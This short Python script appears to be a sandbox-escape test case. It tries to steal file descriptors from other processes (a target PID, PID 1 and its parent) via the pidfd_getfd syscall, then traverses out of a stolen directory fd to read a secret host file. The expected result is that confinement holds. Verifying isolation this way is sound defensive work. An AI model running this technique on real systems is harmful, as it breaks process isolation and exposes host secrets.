# attempt: Takes open files out of other processes by pidfd_getfd: the launcher's socket, a directory of the host's.
# known-from: CVE-2026-46333 (a process on its way out gave its fds to anybody of its account)
# held-by: filter, pid namespace, launcher
# must: held
# needs: secret victim
# control: bare
import ctypes
import os

PIDFD_GETFD = 438
libc = ctypes.CDLL(None, use_errno=True)
why = "nobody"
for pid in int(os.environ["ESCAPE_PID"]), 1, os.getppid():
    try:
        pidfd = os.pidfd_open(pid)
    except OSError as error:
        why = f"pidfd_open: {error.strerror}"
        continue
    for number in range(64):
        fd = libc.syscall(PIDFD_GETFD, pidfd, number, 0)
        if fd < 0:
            why = f"pidfd_getfd: {os.strerror(ctypes.get_errno())}"
        elif os.path.isdir(f"/proc/self/fd/{fd}"):
            with open(f"/proc/self/fd/{fd}/../../../../../..{os.environ['ESCAPE_SECRET']}") as file:
                print(f"escaped: fd {number} of {pid}: {file.read()}")
                raise SystemExit
        elif pid != int(os.environ["ESCAPE_PID"]):
            print(f"escaped: fd {number} of {pid}")
            raise SystemExit
print(f"held: {why}")
